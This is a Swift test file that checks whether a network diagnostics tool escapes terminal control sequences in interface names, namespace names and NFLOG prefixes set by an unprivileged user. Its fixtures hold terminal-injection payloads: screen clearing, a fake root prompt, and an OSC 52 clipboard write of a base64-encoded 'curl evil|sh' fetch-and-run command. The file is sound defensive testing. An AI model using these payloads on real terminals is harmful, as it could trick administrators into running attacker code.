import Aggregation
import Foundation
import Glibc
import Lab
import LinuxSupport
import Reports
import Testing

/// Names that an unprivileged user chose, on the terminal of root.
@Suite(
    .serialized, .enabled(if: Live.obstacle == nil, "\(Live.obstacle ?? "")"),
    .enabled(if: geteuid() == 0, "only root has other users' namespaces to look into"))
struct TerminalEscapingTests {
    @Test("a hostile prefix and a hostile interface are shown as escapes by every command that meets them")
    func commands() async throws {
        try await Sandbox.with { sandbox in
            let user = try SandboxProcess(
                ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "unshare", "-Urn", "bash", "-c", Self.hostile],
                in: sandbox)
            for _ in 0..<250 where !user.output.contains("ready") {
                try #require(user.isRunning, "\(user.output)")
                try await Task.sleep(for: .milliseconds(20))
            }
            try await sandbox.sh("ip netns add evil\u{1B}]0;PWN\u{07}\u{9B}31m")
            try await sandbox.collecting { _ in
                _ = try await sandbox.paths { $0.completeness.journeys > 0 || $0.completeness.unplaced > 0 }
                for command in [
                    "probes", "probes --json", "report paths", "report paths --format json", "report paths --format markdown",
                    "report paths --format mermaid", "report drops", "report findings", "report flows", "report precedence",
                    "report precedence --format markdown", "export",
                ] {
                    try await expectEscapes(of: command, in: sandbox)
                }
                let paths = try await terminal("report paths --color always", in: sandbox)
                #expect(paths.contains(#"\x1b]0;IF\x07"#), "\(paths)")
                let metrics = try await sandbox.sh("curl -sS localhost:9100/metrics")
                #expect(metrics.unicodeScalars.allSatisfy { $0 == "\n" || !Self.isControl($0) })
            }
            let probes = try await terminal("probes", in: sandbox)
            #expect(probes.contains(#"\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[31mroot#"#), "\(probes)")
            try await expectEscapes(of: "trace --steps --count 2 --duration 5s", in: sandbox)
            try await expectEscapes(of: "collect --duration 4s", in: sandbox)
            try await expectEscapes(of: "install-probes", in: sandbox)
            try await expectEscapes(of: "remove-probes --verify", in: sandbox)
            try await expectEscapes(of: "install-probes --netns \u{1B}]0;x\u{07}", in: sandbox)
            try await expectEscapes(of: "report \u{1B}]0;x\u{07}", in: sandbox)
            try await expectEscapes(of: "analyze /\u{1B}]0;x\u{07}", in: sandbox)
            await user.stop()
        }
    }

    /// A packet every 100 ms leaves by an interface whose name is an escape sequence, past an NFLOG rule whose prefix is some.
    private static let hostile = #"""
        export PATH=$PATH:/usr/sbin:/sbin
        interface=$(printf '\033]0;IF\007')
        set -e
        ip link set lo up
        ip link add "$interface" type veth peer name peer
        ip link set "$interface" up
        ip link set peer up
        ip addr add 10.9.9.1/24 dev "$interface"
        ip neigh add 10.9.9.2 lladdr 02:00:00:00:00:01 dev "$interface"
        iptables-nft -A OUTPUT -j NFLOG --nflog-group 5 \
            --nflog-prefix "$(printf '\033]52;c;Y3VybCBldmlsfHNo\007\033[2J\033[31mroot# ')"
        echo ready
        exec ping -i 0.1 -w 60 10.9.9.2 >/dev/null
        """#

    private func expectEscapes(of command: String, in sandbox: Sandbox) async throws {
        let shown = try await terminal(command, in: sandbox)
        // Colours, and what the live view does with the screen.
        let plain = shown.replacing(#/\u{1B}\[((0|1|2|31|32|33)m|\?(1049|25)[hl]|[HJK])/#, with: "").unicodeScalars
        #expect(plain.allSatisfy { $0 == "\n" || $0 == "\r" || !Self.isControl($0) }, "\(command): \(shown.debugDescription)")
        #expect(!shown.isEmpty, "\(command)")
    }

    /// A command's output on a terminal.
    private func terminal(_ command: String, in sandbox: Sandbox) async throws -> String {
        let quoted = ([Live.program] + command.split(separator: " ").map(String.init)).map { "'\($0)'" }.joined(separator: " ")
        return try await sandbox.run(["script", "-qec", quoted, "/dev/null"]).standardOutput
    }

    private static func isControl(_ scalar: Unicode.Scalar) -> Bool {
        scalar.value < 0x20 || (0x7F..<0xA0).contains(scalar.value)
    }
}
